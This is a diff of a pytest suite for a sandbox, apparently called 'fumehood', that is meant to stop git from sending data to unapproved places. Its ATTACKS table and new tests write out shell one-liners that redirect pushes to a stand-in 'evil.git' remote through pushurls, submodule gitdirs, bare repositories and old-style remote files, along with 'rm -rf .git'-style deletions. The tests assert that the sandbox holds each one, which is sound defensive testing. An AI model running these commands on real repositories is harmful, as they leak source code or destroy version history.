@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 from conftest import need
-from fumehood import Run, Sandbox
+from fumehood import Policy, Run, Sandbox
 from fumehood.service.store import Store
 
 pytestmark = pytest.mark.namespaces
@@ -53,13 +53,13 @@ DAY = {
     "submodule": "git submodule --quiet add $L lib; git commit -qm lib",
     "submodule, away": "git submodule --quiet deinit -f lib",
     "submodule, back": "git submodule --quiet update --init",
-    "submodule, used": "cd lib; git switch -qc mine; echo 1 > x; git add x; git commit -qm x; git switch -q --detach @~",
+    "submodule, used": "cd lib; git switch -qc mine; echo 1 > x; git add x; git commit -qm x; git switch -qd @~",
     "submodule, updated": "git submodule --quiet sync; git submodule --quiet update --remote; git commit -qam updated",
     "work tree": "git worktree add -q tree -b tree",
     "work tree, used": "cd tree; echo 9 > nine; git add nine; git commit -qm nine",
     "work tree with submodule": "cd tree; git submodule --quiet update --init",
     "work tree, locked": "git worktree lock tree; git worktree repair; git -C tree switch -qc bush",
-    "work tree, removed": "git worktree unlock tree; git worktree remove -f tree; git branch -qD tree bush; git worktree prune",
+    "work tree, removed": "git worktree remove -ff tree; git branch -qD tree bush; git worktree prune",
     "sparse": "git sparse-checkout set docs",
     "sparse, more": "git sparse-checkout add src; git worktree add -q wood; git worktree remove wood",
     "sparse, no more": "git sparse-checkout disable",
@@ -180,6 +180,13 @@ HOOK = (
     "printf '#!/bin/sh\\ntouch $M\\n' | sed s,.M,$M, > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
     " git config core.hooksPath /dev/null"
 )
+PROMISED = (
+    "git config core.repositoryFormatVersion 1; git config extensions.partialClone x; git remote add x ssh://x/x;"
+    " git config remote.x.promisor true"
+)
+IN_LIB = "cd lib; git commit -q --allow-empty -m x; git push -q"
+ANOTHER = "cp -r .git/modules/lib .git/modules/x; git config -f .git/modules/x/config remote.origin.url $E"
+OF_ITS_OWN = "rm lib/.git; cp -r .git/modules/lib lib/.git; git config -f lib/.git/config --unset core.worktree"
 ATTACKS = {
     "another address": ("true", "git remote set-url origin $E", PUSH, SENT),
     "another address to push to": ("true", "git config remote.origin.pushurl $E", PUSH, SENT),
@@ -197,13 +204,11 @@ ATTACKS = {
     ),
     "missing objects from elsewhere": (
         "true",
-        "git config core.repositoryFormatVersion 1; git config extensions.partialClone x; git remote add x ssh://x/x;"
-        " git config remote.x.promisor true; f=$(git rev-parse @:one | sed s,^..,\\&/,); rm -f .git/objects/$f",
-        "git show @:one", RAN,
+        f"{PROMISED}; f=$(git rev-parse @:one | sed s,^..,\\&/,); rm -f .git/objects/$f", "git show @:one", RAN,
     ),
     "the address to push to, taken out": (
-        "git config remote.origin.pushurl $R; git config remote.origin.url $E", "git config --unset remote.origin.pushurl",
-        PUSH, SENT,
+        "git config remote.origin.pushurl $R; git config remote.origin.url $E",
+        "git config --unset remote.origin.pushurl", PUSH, SENT,
     ),
     "one of two addresses, taken out": (
         "git config --add remote.origin.pushurl $E; git config remote.origin.pushurl $R",
@@ -227,28 +232,20 @@ ATTACKS = {
         "cd src; git init -q; git add .; git commit -qm x; git remote add origin $E; git config push.default current",
         "cd src; echo new > x; git commit -qam new; git push -q", SENT,
     ),
-    "a submodule's address": (
-        LIB, "git -C lib remote set-url origin $E", "cd lib; git commit -q --allow-empty -m x; git push -q", SENT,
-    ),
+    "a submodule's address": (LIB, "git -C lib remote set-url origin $E", IN_LIB, SENT),
     "another repository for a submodule": (
-        LIB,
-        "cp -r .git/modules/lib .git/modules/x; git config -f .git/modules/x/config remote.origin.url $E;"
-        " echo 'gitdir: ../.git/modules/x' > lib/.git",
-        "cd lib; git commit -q --allow-empty -m x; git push -q", SENT,
+        LIB, f"{ANOTHER}; echo 'gitdir: ../.git/modules/x' > lib/.git", IN_LIB, SENT,
     ),
     "a submodule with a repository of its own": (
-        LIB,
-        "rm lib/.git; cp -r .git/modules/lib lib/.git; git config -f lib/.git/config --unset core.worktree;"
-        " git -C lib remote set-url origin $E",
-        "cd lib; git commit -q --allow-empty -m x; git push -q", SENT,
+        LIB, f"{OF_ITS_OWN}; git -C lib remote set-url origin $E", IN_LIB, SENT,
     ),
     "a bare repository in the project": (
-        "git clone -q --bare $L x.git", "git -C x.git remote set-url origin $E", "git -C x.git push -q origin main", SENT,
+        "git clone -q --bare $L x.git", "git -C x.git remote set-url origin $E", "git -C x.git push -q origin main",
+        SENT,
     ),
     "an old-style remote": (
-        "git config --remove-section remote.origin; mkdir -p .git/remotes; printf 'URL: %s\\n' $R > .git/remotes/origin",
-        "printf 'URL: %s\\n' $E > .git/remotes/origin",
-        "echo new > one; git commit -qam new; git push -q origin main", SENT,
+        "git remote rm origin; mkdir -p .git/remotes; printf 'URL: %s\\n' $R > .git/remotes/origin",
+        "printf 'URL: %s\\n' $E > .git/remotes/origin", f"{PUSH} origin main", SENT,
     ),
 }  # fmt: skip
 
@@ -286,6 +283,23 @@ def test_only_a_persons_word_lets_git_send_data_elsewhere(
     assert typed(harm) is is_seen
 
 
+@pytest.mark.parametrize("shape", [LINKED], indirect=True)
+@pytest.mark.parametrize(
+    "line",
+    ["git config remote.origin.pushurl $E", "git -C $R config remote.x.url $E", "rm ../main/.git/config",
+     "git config extensions.worktreeConfig true; git config --worktree remote.origin.pushurl $E",
+     "rm .git; git init -q; git remote add origin $E"],
+)  # fmt: skip
+def test_a_repository_that_is_a_root_of_its_own_is_judged_as_one_that_was_there(
+    hood: Sandbox, typed: Callable[[str], bool], remote: Path, line: str
+) -> None:
+    run = hood.run(f"set -e; R={remote} E={remote.parent}/evil.git; {line}")
+    assert run.exit_code == 0, run.output
+    assert run.state == "held"
+    typed(PUSH)
+    assert not typed(SENT)
+
+
 def test_a_repository_is_not_replaced_in_two_runs_either(
     hood: Sandbox, typed: Callable[[str], bool], project: Path
 ) -> None:
@@ -295,3 +309,24 @@ def test_a_repository_is_not_replaced_in_two_runs_either(
     assert ".git/config" in waiting(second)
     typed(PUSH)
     assert not typed(SENT)
+
+
+LOSSES = {
+    "rm .git/config": ".git/config",
+    "rm -rf .git": ".git",
+    "rm -rf .git; git init -q": ".git/config",
+    "rm -rf x.git; git init -q --bare x.git": "x.git/config",
+}
+
+
+@pytest.mark.parametrize("line", LOSSES)
+def test_what_git_would_lose_is_seen_by_every_way_of_capturing(
+    typed: Callable[[str], bool], project: Path, way: str, line: str
+) -> None:
+    assert typed("git clone -q --bare $L x.git; mkdir -p .git/remotes; echo 'URL: x' > .git/remotes/x")
+    with Sandbox(project, Policy(capture=way)) as sandbox:
+        run = sandbox.run(line)
+        assert run.exit_code == 0, run.output
+        assert waiting(run).get(LOSSES[line], "").startswith("held")
+    kept = ("git config -f .git/config remote.origin.url", "git config -f x.git/config remote.origin.url")
+    assert all(map(typed, (*kept, "test -e .git/remotes/x")))
